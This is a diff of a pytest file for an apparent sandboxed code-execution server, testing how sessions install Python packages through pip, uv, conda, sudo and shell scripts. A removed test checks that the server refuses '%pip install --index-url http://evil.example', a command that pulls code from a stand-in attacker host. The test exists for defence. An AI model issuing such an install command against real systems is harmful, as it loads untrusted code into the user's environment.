@@ -5,31 +5,27 @@ from __future__ import annotations
 import json
 import logging
 import os
-import tempfile
-from contextlib import asynccontextmanager
-from pathlib import Path
 from typing import TYPE_CHECKING
 
-import anyio
 import pytest
 from mcp import Client
 from mcp.types import TextContent
 
 from aca_mcp.errors import PackagesNotInstalledError
 from aca_mcp.missing_modules import PackageOffer
-from aca_mcp.pools import open_session_pool
 from aca_mcp.server.app import ServerOptions, create_server
 from aca_mcp.server.audit import AuditLog
 from aca_mcp.server.callers import Callers
 from aca_mcp.server.sessions.client_sessions import open_sessions
 from aca_mcp.settings import Settings
+from tests.packages.sessions import opened, printed, run
 from tests.support.package_index import make_wheel
-from tests.support.reachable import reachable_python
 
 if TYPE_CHECKING:
-    from collections.abc import AsyncGenerator, Generator
+    from collections.abc import AsyncGenerator
+    from pathlib import Path
 
-    from aca_mcp.pool import Execution, SessionPool
+    from aca_mcp.pool import SessionPool
     from tests.support.package_index import Index
 
 
@@ -49,48 +45,6 @@ cd deep; python3 -m pip install -r wanted.txt
 """
 
 
-@pytest.fixture
-def data_dir() -> Generator[Path]:
-    """A directory that every user can reach, as sessions of root are users of their own."""
-    with tempfile.TemporaryDirectory(prefix="aca-mcp-data-") as name:
-        Path(name).chmod(0o755)
-        yield Path(name)
-
-
-@pytest.fixture(params=["namespaces", "landlock"])
-async def pool(
-    request: pytest.FixtureRequest, index: Index, data_dir: Path
-) -> AsyncGenerator[SessionPool]:
-    with reachable_python() as python:
-        tier = {"local_isolation": request.param, "local_python": Path(python)}
-        async with opened(index, data_dir, **tier) as each:
-            yield each
-
-
-@asynccontextmanager
-async def opened(index: Index, data_dir: Path, **changes: object) -> AsyncGenerator[SessionPool]:
-    settings = Settings(
-        data_dir=data_dir,
-        package_index=index.url,
-        local_preimport="",
-        local_ready_sessions=0,
-        **changes,  # pyright: ignore[reportArgumentType] -- named as the fields
-    )
-    async with open_session_pool(settings) as pool:
-        yield pool
-
-
-async def run(pool: SessionPool, code: str, identifier: str = "a-session") -> Execution:
-    with anyio.fail_after(50):
-        return await pool.execute(identifier, code, timeout_seconds=40)
-
-
-async def printed(pool: SessionPool, code: str) -> str:
-    execution = await run(pool, code)
-    assert execution.error is None, execution.error.traceback
-    return execution.stdout.text + execution.stderr.text
-
-
 @pytest.mark.parametrize(
     "command",
     [
@@ -106,6 +60,8 @@ async def printed(pool: SessionPool, code: str) -> str:
         DEEP,
         "import subprocess; subprocess.run(['sh', '-c', 'sudo -H pip install needs-tea'])",
         "import subprocess; subprocess.run('uv pip install needs-tea', shell=True)",
+        "%conda install -y -c conda-forge needs-tea=2.0",
+        "!uv add needs-tea",
         "open('setup.sh', 'w').write('pip install $1')\n!bash setup.sh needs-tea",
         AWAITED,
     ],
@@ -133,23 +89,6 @@ async def _install_and_import(pool: SessionPool, command: str) -> None:
     )
     program += " print(tea_time.version)'], capture_output=True, text=True).stdout)"
     assert "1.0" in await printed(pool, program)
-
-
-async def test_pip_prints_what_came_of_it(pool: SessionPool) -> None:
-    text = await printed(pool, "%pip install needs-tea")
-    assert text == "Successfully installed needs-tea-2.0 tea-time-1.0\n"
-    assert await printed(pool, "!pip install tea-time") == (
-        "Requirement already satisfied: tea-time (1.0)\n"
-    )
-    assert "tea-time 1.0" in await printed(pool, "!pip list")
-    refused = await printed(pool, "%pip install --index-url http://evil.example x")
-    assert "the option --index-url, which is not available" in refused
-    failed = await run(
-        pool, "import subprocess\nsubprocess.check_call(['pip', 'install', 'no-tea'])"
-    )
-    assert failed.error is not None
-    assert failed.error.name == "CalledProcessError"
-    assert "'no-tea'" in failed.stderr.text
 
 
 async def test_a_program_that_outlives_the_code_is_told_so(pool: SessionPool) -> None:
